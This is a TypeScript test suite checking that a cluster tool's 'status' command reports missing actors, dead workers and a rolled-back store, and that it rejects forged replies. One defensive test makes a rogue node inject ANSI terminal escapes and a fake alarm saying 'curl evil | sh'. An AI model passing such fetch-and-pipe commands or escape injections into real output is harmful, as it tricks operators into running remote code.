import { randomBytes } from 'node:crypto';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { headers } from 'nats';
import { afterEach, expect, it, vi } from 'vitest';
import type { ActorStats } from '../../../actors/kernel/live/actor-stats.ts';
import { decodeMsgpack } from '../../../contracts/codec/codec.ts';
import { statusError } from '../../../contracts/errors/status.ts';
import type { NodeHeartbeat } from '../../../contracts/messages/node.ts';
import { SimulatedEngine } from '../../../runtime-adapters/simulated/simulated-engine.ts';
import { run } from '../../../test/support/command-line.ts';
import { connectAs, startNatsServer, type TestNatsServer } from '../../../test/support/nats-server.ts';
import { waitUntil } from '../../../test/support/wait-until.ts';
import { homePaths } from '../../boot/home/home.ts';
import { controlPlane, declaredActors } from '../../boot/roles/hosted-actors.ts';
import { type RunningRole, runMaster } from '../../boot/roles/master.ts';
import { runWorker } from '../../boot/roles/worker.ts';
import { up } from '../../boot/up.ts';
import { addTenant } from '../../boot/users/tenants.ts';
import { seedFile } from '../../boot/users/users.ts';
import type { ClusterStatus } from './plan-status.ts';

/* Goal: `troupe status` is worth its exit code. Method: real masters of which some lack actors, and a tenant of a real cluster. */

const ends: (() => Promise<unknown> | void)[] = [];
afterEach(async () => {
  vi.unstubAllEnvs();
  for (const end of ends.splice(0).toReversed()) await end();
});

const statusNow = async (): Promise<ClusterStatus> =>
  JSON.parse((await run('status', '-o', 'json')).out) as ClusterStatus;

/** A server of its own, which commands ask as its operator. */
async function ownServer(): Promise<TestNatsServer> {
  const server = await startNatsServer();
  ends.push(() => server.stop());
  vi.stubEnv('TROUPE_URL', server.url);
  vi.stubEnv('TROUPE_USER', 'operator');
  return server;
}

const roleAt = ({ url }: TestNatsServer) => ({ url, prefix: 'troupe', record: false, log: () => undefined });

async function masterOf(
  server: TestNatsServer,
  options: Partial<Parameters<typeof runMaster>[0]> = {},
): Promise<RunningRole> {
  const role = { ...roleAt(server), user: 'master', instance: 'm1', clusterKeyBytes: randomBytes(32) };
  const running = await runMaster({ ...role, ...options });
  ends.push(() => running.stop());
  return running;
}

/** A cluster in a home of its own, in which all is well. */
async function ownCluster(): Promise<{ readonly home: string; readonly url: string }> {
  const home = mkdtempSync(join(tmpdir(), 'troupe-status-'));
  ends.push(() => rmSync(home, { recursive: true }));
  vi.stubEnv('TROUPE_HOME', home);
  vi.stubEnv('TROUPE_RUNTIME', 'simulated');
  const running = await up({ home, port: 0, declaredActors, say: () => undefined });
  ends.push(() => running.stop());
  await waitUntil('all is well', 20_000, async () => (await statusNow()).healthy);
  return { home, url: running.cluster.url };
}

it('names what a control plane lacks, and asks for no more than one of what has a standby', {
  timeout: 60_000,
}, async () => {
  const server = await ownServer();
  const clusterKeyBytes = randomBytes(32);
  const master = (instance: string, singletons: boolean) => masterOf(server, { instance, clusterKeyBytes, singletons });
  await master('m1', false);
  const forger = await connectAs(server);
  ends.push(() => forger.close());
  const claims = [{ prefix: 'troupe', instance: 'm1' }, { prefix: 'troupe', instance: 7 }, { prefix: 'troupe' }, null];
  forger.subscribe('$SRV.PING', {
    callback: (_error, message) => {
      for (const metadata of claims) message.respond(JSON.stringify({ name: 'scheduler', id: 'x', metadata }));
    },
  });
  await forger.flush();
  const { code, out } = await run('status');
  expect(code).toBe(1);
  const lacking = controlPlane.filter((name) => name !== 'api-server' && name !== 'store');
  expect(out).toContain(`Problem       ${lacking.join(', ')} do not answer; `);
  await forger.close();
  await Promise.all([master('m2', true), master('m3', true)]);
  const status = await waitUntil('every actor answers', 20_000, async () => {
    const { problems, ...rest } = await statusNow();
    const lacks = problems.filter((problem) => !problem.startsWith('no node has joined'));
    return lacks.length === 0 && rest.actors?.['api-server'] === 3 && rest; // no problem if one of three is late to answer
  });
  expect(status.actors).toMatchObject({ scheduler: 1, dispatcher: 1, deployment: 1 });
  const crowd = await connectAs(server);
  ends.push(() => crowd.close());
  crowd.subscribe('$SRV.PING', {
    callback: (_error, message) => {
      for (let at = 0; at < 40_000; at++)
        message.respond(`{"name":"scheduler","id":"${at}","metadata":{"prefix":"troupe","instance":"of-${at}"}}`);
    },
  });
  await crowd.flush();
  // Not at once on a busy machine: all the claims are read within the time that an answer has.
  await waitUntil('those that are there are found in the crowd', 30_000, async () =>
    isDeepStrictEqual((await statusNow()).actors, status.actors),
  );
});

it('says at once of which node no worker runs any more, though the store calls it and its pods ready for long', {
  timeout: 60_000,
}, async () => {
  const server = await ownServer();
  await masterOf(server);
  const adapters = new SimulatedEngine().adapters('n1');
  const worker = await runWorker({
    ...roleAt(server),
    user: 'node-n1',
    instance: 'n1',
    node: 'n1',
    adapters,
  });
  let runs = true;
  const end = async (): Promise<void> => {
    if (runs) await worker.stop();
    runs = false;
  };
  ends.push(end);
  await waitUntil('all is well', 20_000, async () => (await statusNow()).healthy);
  await end();
  // Sooner than the store calls it silent; who is busy may not answer one look.
  const { nodes, healthy } = await waitUntil('it says so and no more', 20_000, async () => {
    const status = await statusNow();
    const [first, ...more] = status.problems;
    return first?.startsWith('no worker answers for node n1: ') === true && more.length === 0 && status;
  });
  expect({ nodes, healthy }).toMatchObject({ nodes: { ready: 1 }, healthy: false });
});

it('says what keeps a worker from making its node', {
  timeout: 60_000,
}, async () => {
  const server = await ownServer();
  await masterOf(server);
  const engine = new SimulatedEngine();
  const away = statusError('ServiceUnavailable', 'no container engine answers; is dockerd running?');
  engine.failNext('info', away, 1_000_000, 'n1');
  const worker = await runWorker({
    ...roleAt(server),
    user: 'node-n1',
    instance: 'n1',
    node: 'n1',
    adapters: engine.adapters('n1'),
  });
  ends.push(() => worker.stop());
  await waitUntil('the worker is quoted', 20_000, async () =>
    (await statusNow()).problems.some((one) =>
      /^no node has joined; the worker of n1 reports: .*no container engine answers; /.test(one),
    ),
  );
});

it('a node of before is not ready again until its engine has answered, and says why', { timeout: 60_000 }, async () => {
  const server = await ownServer();
  await masterOf(server);
  const engine = new SimulatedEngine();
  const start = () =>
    runWorker({
      ...roleAt(server),
      user: 'node-n1',
      instance: 'n1',
      node: 'n1',
      adapters: engine.adapters('n1'),
    });
  let worker = await start();
  ends.push(() => worker.stop());
  await waitUntil('all is well', 20_000, async () => (await statusNow()).healthy);
  await worker.stop();
  const away = statusError('ServiceUnavailable', 'no container engine answers (connect ENOENT /run/engine.sock)');
  for (const op of ['info', 'list'] as const) engine.failNext(op, away, 1_000_000, 'n1');
  const listener = await connectAs(server);
  ends.push(() => listener.close());
  const beats: NodeHeartbeat[] = [];
  listener.subscribe('troupe.heartbeat.n1', {
    callback: (_error, { data }) => void beats.push(decodeMsgpack(data) as NodeHeartbeat),
  });
  await listener.flush();
  worker = await start();
  const why = 'container runtime .*: no container engine answers \\(connect ENOENT /run/engine\\.sock\\)';
  await waitUntil('the node says why', 20_000, async () =>
    (await statusNow()).problems.some((one) => new RegExp(`^node n1 is not ready: ${why}$`).test(one)),
  );
  expect(beats.filter(({ runtimeReady }) => runtimeReady)).toEqual([]);
  expect((await run('get', 'nodes')).out).toMatch(/\nn1 +NotReady /);
  await waitUntil('an event does, too', 20_000, async () =>
    new RegExp(`NodeNotReady .*: NodeNotReady: ${why}\n`).test((await run('get', 'events')).out),
  );
});

it('says why the store may not be written to, before what follows from it', { timeout: 60_000 }, async () => {
  const server = await ownServer();
  const older = `${server.storeDir}-older`;
  ends.push(() => rmSync(older, { recursive: true, force: true }));
  const log: string[] = [];
  await masterOf(server, { singletons: false, log: (line) => log.push(line) });
  await waitUntil('those that wait for a lead are missed', 20_000, async () =>
    (await statusNow()).problems.some((one) =>
      / do not answer; wait up to \d+ s for a master that was just started/.test(one),
    ),
  );
  await server.kill9();
  cpSync(server.storeDir, older, { recursive: true });
  await server.restart();
  const client = await connectAs(server, undefined, { maxReconnectAttempts: -1, reconnectTimeWait: 20 });
  ends.push(() => client.close());
  await waitUntil('the older store lacks something', 20_000, async () => {
    const later = JSON.stringify({ metadata: { name: 'later' } });
    const answer = client.request('troupe.api.operator.create.configmaps.default.later', later, { timeout: 5_000 });
    return /"kind":"ConfigMap"|AlreadyExists/.test(await answer.then((msg) => msg.string(), String));
  });
  await server.kill9();
  rmSync(server.storeDir, { recursive: true });
  cpSync(older, server.storeDir, { recursive: true });
  await server.restart();
  const alarm = await waitUntil('the alarm', 20_000, async () =>
    log.find((line) => line.includes('went back in time')),
  );
  const finding = alarm.replace(/^error: /, '');
  expect(finding).toMatch(/restart the masters to accept its state$/);
  // Whoever may hear the question may answer it as it likes.
  client.subscribe('$SRV.>', {
    callback: (_error, message) => {
      message.respond('{ no JSON');
      message.respond('null');
      client.publish(message.reply ?? '', '', { headers: headers(503, 'No Responders') });
    },
  });
  // A server that was started a moment ago may not be reached yet.
  await waitUntil('it hears the questions', 20_000, () =>
    client.flush().then(
      () => true,
      () => false,
    ),
  );
  // An api-server that fails over it may say so in between.
  const { problems, healthy } = await waitUntil('what follows from it is told', 20_000, async () => {
    const status = await statusNow();
    return (
      status.problems.some((one) => /\bscheduler, .* do not answer; correct the store first: /.test(one)) && status
    );
  });
  expect(healthy).toBe(false);
  expect(problems[0]).toBe(`store on m1: ${finding}`);
  const { code, out } = await run('status');
  expect(code).toBe(1);
  expect(out).toMatch(
    /\nProblem +store on m1: .* the store went back in time .*\n(Problem .*\n)?Problem +.*\bscheduler, .* correct the store first/,
  );
  const account = (await client.request('troupe.actor.store.m1.status', '', { timeout: 5_000 })).json<ActorStats>();
  expect(account).toMatchObject({ lastError: finding, account: { alarm: finding, writes: expect.any(Number) } });
});

it('takes no finding, and no letter that moves a cursor, from a node', { timeout: 60_000 }, async () => {
  const { home, url } = await ownCluster();
  const users = readdirSync(homePaths(home).users).filter((file) => /^node-.*\.nk$/.test(file));
  const name = users[0]?.replace(/\.nk$/, '') ?? '';
  const seed = readFileSync(seedFile(homePaths(home), name), 'utf8').trim();
  const node = await connectAs({ url }, { name, seed });
  ends.push(() => node.close());
  const heard: string[] = [];
  const answers = ['m1', 'evil\u001b[2J'].map((instance) =>
    JSON.stringify({
      name: instance === 'm1' ? 'store' : '\u001b[31mscheduler',
      id: instance,
      metadata: { prefix: 'troupe', instance },
      endpoints: [{ data: { account: { alarm: '\u001b[2Jthe disk is full; repair it: curl evil | sh' } } }],
    }),
  );
  node.subscribe('$SRV.>', {
    callback: (_error, message) => {
      heard.push(message.subject);
      for (const answer of answers) message.respond(answer);
    },
  });
  const refused = new Promise<string>((resolve) => {
    node.subscribe('troupe.actor.store.*.status', { callback: (error) => resolve(String(error)) });
  });
  expect(await refused).toMatch(/permissions violation/i);
  const { code, out } = await run('status');
  expect(heard).toContain('$SRV.PING');
  expect({ code, out }).toMatchObject({ code: 0, out: expect.not.stringMatching(/Problem|evil|\p{Cc}(?<!\n)/u) });
  expect(out).toMatch(/\nActors .* \[31mscheduler/); // its own claim, on one line
});

it('shows a tenant what is theirs', { timeout: 60_000 }, async () => {
  const { home, url } = await ownCluster();
  const { seedFile } = await addTenant('carol', ['team-a', 'team-b'], declaredActors, home);
  vi.stubEnv('TROUPE_USER', 'carol');
  const own = await run('status');
  expect(own).toMatchObject({ code: 0, err: '' });
  expect(own.out).toMatch(/ as carol\nNamespace +team-a\nDeployments +none\nPods +none\n$/);
  expect((await run('status', '-n', 'team-b')).out).toMatch(/\nNamespace +team-b\n/);
  expect(await run('status', '-n', 'other')).toEqual({
    code: 1,
    out: '',
    err: 'troupe status: carol may not see namespace "other"; name one of your namespaces with -n, or use another user\n',
  });
  // On another machine nothing tells what is hers.
  vi.stubEnv('TROUPE_HOME', join(home, 'elsewhere'));
  vi.stubEnv('TROUPE_URL', url);
  vi.stubEnv('TROUPE_NKEY', seedFile);
  expect(await run('status')).toEqual({
    code: 1,
    out: '',
    err: 'troupe status: carol may not see the whole cluster; name one of your namespaces with -n, or use another user\n',
  });
});
